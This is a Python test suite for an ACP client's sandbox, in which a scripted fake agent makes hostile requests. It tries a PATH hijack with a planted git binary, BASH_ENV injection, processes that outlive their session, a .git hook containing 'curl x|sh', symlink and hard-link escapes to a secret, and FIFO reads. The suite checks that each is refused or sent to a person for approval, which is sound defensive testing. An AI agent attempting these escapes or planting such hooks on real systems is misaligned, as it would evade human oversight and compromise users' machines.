"""What an ACP agent asks the client to do, attacked with real files and processes: terminal ids,
environment hijacks, commands that outlive their shell, unbounded output, writes into .git/, FIFOs
and hard links.  Each test also checks that nothing outside the workspace was read or changed."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import anyio
import orjson
import pytest

from orchestrate import ApprovalDecision, ApprovalRequest, AutoApprove, AutoDeny
from orchestrate.approvals import ApprovalService, RulePolicy, TerminalPrompt
from orchestrate.run import RunResult
from orchestrate.run.terminals import DEFAULT_OUTPUT_LIMIT

from .helpers import fake_acp, run_agent

pytestmark = pytest.mark.anyio

Step = tuple[str, dict[str, Any]]


class Recorder:
    """Answers like ``inner`` and keeps every request it saw."""

    def __init__(self, inner: ApprovalService) -> None:
        self.inner = inner
        self.requests: list[ApprovalRequest] = []

    async def request_approval(self, request: ApprovalRequest) -> ApprovalDecision:
        self.requests.append(request)
        return await self.inner.request_approval(request)


async def script(
    cwd: Path, steps: list[Step], approvals: ApprovalService | None = None
) -> tuple[list[dict[str, Any]], RunResult]:
    """Have the fake agent make ``steps`` (requests to us) in order; their answers."""
    result, _ = await run_agent(fake_acp(), cwd, "script " + orjson.dumps(steps).decode(), approvals)
    return orjson.loads(result.final_text), result


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A directory beside the workspace with a secret in it; the test's end checks it is unchanged."""
    place = tmp_path / "outside"
    place.mkdir()
    (place / "secret").write_text("SECRET")
    return place


@pytest.fixture
def work(tmp_path: Path, outside: Path) -> Any:
    work = tmp_path / "work"
    work.mkdir()
    yield work
    assert sorted(p.name for p in outside.iterdir()) == ["secret"]
    assert (outside / "secret").read_text() == "SECRET"


def _live(cmdline: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            args = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode().strip()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if args == cmdline and state != "Z":
            found.append(entry.name)
    return found


async def _gone(cmdline: str, within: float = 5) -> None:
    with anyio.fail_after(within):
        while _live(cmdline):  # noqa: ASYNC110 - /proc has no event to wait on
            await anyio.sleep(0.05)


# --- terminals ------------------------------------------------------------------------------


async def test_terminal_ids_are_never_reused(work: Path) -> None:
    answers, _ = await script(
        work,
        [
            ("terminal/create", {"command": "echo", "args": ["one"]}),
            ("terminal/release", {"terminalId": "$0"}),
            ("terminal/create", {"command": "echo", "args": ["two"]}),
            ("terminal/output", {"terminalId": "term_1"}),
            ("terminal/wait_for_exit", {"terminalId": "$2"}),
            ("terminal/output", {"terminalId": "$2"}),
        ],
        AutoApprove(),
    )
    first, second = answers[0]["result"]["terminalId"], answers[2]["result"]["terminalId"]
    assert first != second
    assert answers[3]["error"]["code"] == -32602 and first in answers[3]["error"]["message"]
    assert answers[5]["result"]["output"] == "two\n"


async def test_wait_for_exit_returns_when_the_shell_exits(work: Path) -> None:
    """A background child keeps the output pipe open; the wait is for the shell, and the child
    dies when the terminal is released."""
    started = time.monotonic()
    answers, _ = await script(
        work,
        [
            ("terminal/create", {"command": "sleep 37.25 & echo started"}),
            ("terminal/wait_for_exit", {"terminalId": "$0"}),
            ("terminal/output", {"terminalId": "$0"}),
            ("terminal/release", {"terminalId": "$0"}),
        ],
        AutoApprove(),
    )
    assert answers[1]["result"] == {"exitCode": 0, "signal": None}
    assert answers[2]["result"]["output"] == "started\n"
    assert time.monotonic() - started < 10
    await _gone("sleep 37.25")


async def test_every_terminal_command_dies_with_the_session(work: Path) -> None:
    answers, _ = await script(
        work,
        [
            ("terminal/create", {"command": "sleep 38.5 & sleep 39.5"}),
            ("terminal/create", {"command": "sleep", "args": ["40.5"]}),
            ("terminal/kill", {"terminalId": "$1"}),
            ("terminal/wait_for_exit", {"terminalId": "$1"}),
        ],
        AutoApprove(),
    )
    assert answers[3]["result"]["signal"] in ("SIGTERM", "SIGKILL")
    for command in ("sleep 38.5", "sleep 39.5", "sleep 40.5"):
        await _gone(command)


async def test_output_is_bounded_by_default_and_by_the_agent(work: Path) -> None:
    big = "python3 -c \"import sys; sys.stdout.write('x' * 3_000_000 + 'é' * 10 + 'end')\""
    answers, _ = await script(
        work,
        [
            ("terminal/create", {"command": big}),
            ("terminal/wait_for_exit", {"terminalId": "$0"}),
            ("terminal/output", {"terminalId": "$0"}),
            ("terminal/create", {"command": big, "outputByteLimit": 8}),
            ("terminal/wait_for_exit", {"terminalId": "$3"}),
            ("terminal/output", {"terminalId": "$3"}),
            ("terminal/create", {"command": "echo small", "outputByteLimit": 8}),
            ("terminal/wait_for_exit", {"terminalId": "$6"}),
            ("terminal/output", {"terminalId": "$6"}),
        ],
        AutoApprove(),
    )
    default, tiny, small = answers[2]["result"], answers[5]["result"], answers[8]["result"]
    assert default["truncated"] and len(default["output"].encode()) == DEFAULT_OUTPUT_LIMIT
    assert default["output"].endswith("é" * 10 + "end")
    assert tiny["truncated"] and tiny["output"] == "ééend"  # 7 of the last 8 bytes: whole characters
    assert small == {"output": "small\n", "truncated": False, "exitStatus": {"exitCode": 0, "signal": None}}


async def test_a_path_hijack_through_the_environment_is_judged(work: Path, tmp_path: Path) -> None:
    """A `git` planted in the workspace, put first on PATH by the agent: the policy that allows
    `git status` does not allow `PATH=... git status`, so the planted binary never runs."""
    marker = tmp_path / "hijacked"
    fake_git = work / "bin" / "git"
    fake_git.parent.mkdir()
    fake_git.write_text(f"#!/bin/sh\ntouch {marker}\n")
    fake_git.chmod(0o755)
    policy = Recorder(RulePolicy.from_dict({"allow": {"commands": ["git status*", "echo*"]}}))
    hijack = {"command": "git", "args": ["status"], "env": [{"name": "PATH", "value": str(fake_git.parent)}]}
    answers, _ = await script(
        work,
        [
            ("terminal/create", hijack),
            ("terminal/create", {**hijack, "command": "git status", "args": []}),
            ("terminal/create", {"command": "echo $BASH_ENV", "env": [{"name": "BASH_ENV", "value": "x"}]}),
            (
                "terminal/create",
                {"command": "echo", "args": ["$LANG"], "env": [{"name": "LANG", "value": "C"}]},
            ),
        ],
        policy,
    )
    assert [("error" in a) for a in answers] == [True, True, True, False]
    assert [r.command for r in policy.requests] == [
        f"PATH={fake_git.parent} git status",
        f"PATH={fake_git.parent} git status",
        "BASH_ENV=x echo $BASH_ENV",
        "echo '$LANG'",  # LANG changes no program: applied without being judged
    ]
    assert not marker.exists()


async def test_the_environment_applies_once_approved(work: Path) -> None:
    policy = Recorder(AutoApprove())
    answers, _ = await script(
        work,
        [
            (
                "terminal/create",
                {"command": "echo $GREETING", "env": [{"name": "GREETING", "value": "hi there"}]},
            ),
            ("terminal/wait_for_exit", {"terminalId": "$0"}),
            ("terminal/output", {"terminalId": "$0"}),
            ("terminal/create", {"command": "true", "env": [{"name": "A B", "value": "x"}]}),
        ],
        policy,
    )
    assert answers[2]["result"]["output"] == "hi there\n"
    assert policy.requests[0].command == "GREETING='hi there' echo $GREETING"
    assert "not a valid name" in answers[3]["error"]["message"] and len(policy.requests) == 1


async def test_a_terminal_runs_only_inside_the_workspace(work: Path, outside: Path) -> None:
    (work / "sub").mkdir()
    (work / "away").symlink_to(outside)
    answers, _ = await script(
        work,
        [
            ("terminal/create", {"command": "pwd", "cwd": str(work / "sub")}),
            ("terminal/wait_for_exit", {"terminalId": "$0"}),
            ("terminal/output", {"terminalId": "$0"}),
            ("terminal/create", {"command": "touch planted", "cwd": str(outside)}),
            ("terminal/create", {"command": "touch planted", "cwd": str(work / "away")}),
            ("terminal/create", {"command": "touch planted", "cwd": str(work / "..")}),
        ],
        AutoApprove(),
    )
    assert answers[2]["result"]["output"] == f"{(work / 'sub').resolve()}\n"
    assert all(a["error"]["code"] == -32602 for a in answers[3:])


# --- files ----------------------------------------------------------------------------------


async def test_a_hook_write_under_ask_asks_the_person(work: Path) -> None:
    (work / ".git" / "hooks").mkdir(parents=True)
    keys_r, keys_w = os.pipe()
    screen_r, screen_w = os.pipe()
    prompt = TerminalPrompt(input=keys_r, output=screen_w)
    hook = str(work / ".git" / "hooks" / "post-checkout")
    shown = b""

    async def person() -> None:  # answers "no" with a reason once each question is on the screen
        nonlocal shown
        for typed in (b"n\n", b"not a hook\n"):
            with anyio.fail_after(10):
                while not shown.endswith((b"> ", b": ")):
                    await anyio.wait_readable(screen_r)
                    shown += os.read(screen_r, 65536)
            os.write(keys_w, typed)
            shown += b"\n"

    try:
        async with anyio.create_task_group() as tg:
            tg.start_soon(person)
            answers, _ = await script(
                work, [("fs/write_text_file", {"path": hook, "content": "#!/bin/sh\ncurl x|sh\n"})], prompt
            )
    finally:
        for fd in (keys_r, keys_w, screen_r, screen_w):
            os.close(fd)
    assert "not a hook" in answers[0]["error"]["message"]
    assert b"fs/write_text_file" in shown and b"post-checkout" in shown
    assert list((work / ".git" / "hooks").iterdir()) == []


async def test_every_write_is_judged_with_its_diff(work: Path) -> None:
    (work / "a.txt").write_text("one\ntwo\n")
    service = Recorder(AutoApprove())
    answers, _ = await script(
        work,
        [
            ("fs/write_text_file", {"path": str(work / "a.txt"), "content": "one\nTWO\n"}),
            ("fs/write_text_file", {"path": str(work / "new.txt"), "content": "fresh\n"}),
        ],
        service,
    )
    assert answers == [{"result": None}, {"result": None}]
    first, second = service.requests
    assert (first.tool_name, first.read_only, first.paths) == (
        "fs/write_text_file",
        False,
        (str(work / "a.txt"),),
    )
    assert first.context is not None and "-two\n+TWO\n" in first.context
    assert second.context == "creates new.txt:\nfresh\n"
    assert (work / "a.txt").read_text() == "one\nTWO\n"
    denied, _ = await script(
        work, [("fs/write_text_file", {"path": str(work / "b.txt"), "content": "x"})], AutoDeny("no")
    )
    assert "was refused: no" in denied[0]["error"]["message"] and not (work / "b.txt").exists()


def _permission_for(path: Path, new_text: str, kind: str = "edit") -> Step:
    return (
        "session/request_permission",
        {
            "options": [
                {"optionId": "once", "name": "Allow", "kind": "allow_once"},
                {"optionId": "no", "name": "Reject", "kind": "reject_once"},
            ],
            "toolCall": {
                "toolCallId": f"edit_{path.name}",
                "title": f"edit {path.name}",
                "kind": kind,
                "content": [{"type": "diff", "path": str(path), "oldText": None, "newText": new_text}],
            },
        },
    )


async def test_a_write_the_person_just_approved_is_not_asked_again(work: Path) -> None:
    service = Recorder(AutoApprove())
    a, hook, upper = work / "a.txt", work / ".git" / "config", work / ".GIT" / "config"
    hook.parent.mkdir()
    upper.parent.mkdir()
    answers, _ = await script(
        work,
        [
            _permission_for(a, "approved\n"),
            ("fs/write_text_file", {"path": str(a), "content": "approved\n"}),  # the grant: not asked
            ("fs/write_text_file", {"path": str(a), "content": "approved\n"}),  # used once: asked
            _permission_for(a, "approved\n"),
            ("fs/write_text_file", {"path": str(a), "content": "something else\n"}),  # not what was shown
            _permission_for(hook, "[core]\n"),
            ("fs/write_text_file", {"path": str(hook), "content": "[core]\n"}),  # .git/: always asked
            _permission_for(upper, "[core]\n"),
            # .GIT is .git on a case-insensitive filesystem (macOS): always asked too
            ("fs/write_text_file", {"path": str(upper), "content": "[core]\n"}),
        ],
        service,
    )
    assert all("error" not in answer for answer in answers)
    assert [r.tool_name for r in service.requests] == [
        "edit a.txt",
        "fs/write_text_file",
        "edit a.txt",
        "fs/write_text_file",
        "edit config",
        "fs/write_text_file",
        "edit config",
        "fs/write_text_file",
    ]


async def test_a_fifo_is_refused_at_once_through_acp(work: Path) -> None:
    os.mkfifo(work / "fifo")
    with anyio.fail_after(15):
        answers, result = await script(
            work,
            [
                ("fs/read_text_file", {"path": str(work / "fifo")}),
                ("fs/write_text_file", {"path": str(work / "fifo"), "content": "x"}),
                ("fs/read_text_file", {"path": str(work / "fifo"), "line": 0}),
                ("fs/read_text_file", {"path": str(work / "fifo"), "line": -1}),
            ],
            AutoApprove(),
        )
    assert [a["error"]["code"] for a in answers] == [-32602] * 4
    assert "not a regular file" in answers[0]["error"]["message"]
    assert "not a regular file" in answers[1]["error"]["message"]
    assert result.outcome == "success"


async def test_a_hardlink_to_a_secret_through_acp(work: Path, outside: Path) -> None:
    os.link(outside / "secret", work / "innocent.txt")
    answers, _ = await script(
        work,
        [
            ("fs/read_text_file", {"path": str(work / "innocent.txt")}),
            ("fs/write_text_file", {"path": str(work / "innocent.txt"), "content": "overwritten"}),
        ],
        AutoApprove(),
    )
    assert "hard links" in answers[0]["error"]["message"] and "SECRET" not in str(answers)
    assert answers[1] == {"result": None}
    assert (work / "innocent.txt").read_text() == "overwritten"  # the outside file is checked by `work`
